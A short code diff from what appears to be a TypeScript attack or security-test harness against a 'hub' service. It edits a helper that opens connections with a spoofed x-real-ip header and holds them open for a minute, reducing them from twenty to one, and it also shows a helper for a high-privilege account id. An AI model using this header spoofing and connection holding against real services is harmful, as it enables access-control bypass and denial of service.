@@ -65,13 +65,13 @@ function message(target: Target, kind: MessageKind, of: number, changes: Message
 /** An account whose power is the most. */
 const rich = (number: number): number => 0x10_00_00_00 + number * 256 + 255
 
-/** Keeps connections that a function opened until the end of the attack. */
+/** Keeps a connection that a function opened until the end of the attack. */
 async function holdOpen(target: Target, open: (headers: string) => { destroy(): void }): Promise<number> {
-  const opened = Array.from({ length: 20 }, () =>
-    open(`host: hub\r\nx-real-ip: 10.0.0.${target.connection + 1}\r\ncontent-type: application/json\r\n`),
+  const opened = open(
+    `host: hub\r\nx-real-ip: 10.0.0.${target.connection + 1}\r\ncontent-type: application/json\r\n`,
   )
   await wait(60_000, undefined, { signal: target.signal }).catch(() => undefined)
-  for (const one of opened) one.destroy()
+  opened.destroy()
   return 101
 }
 
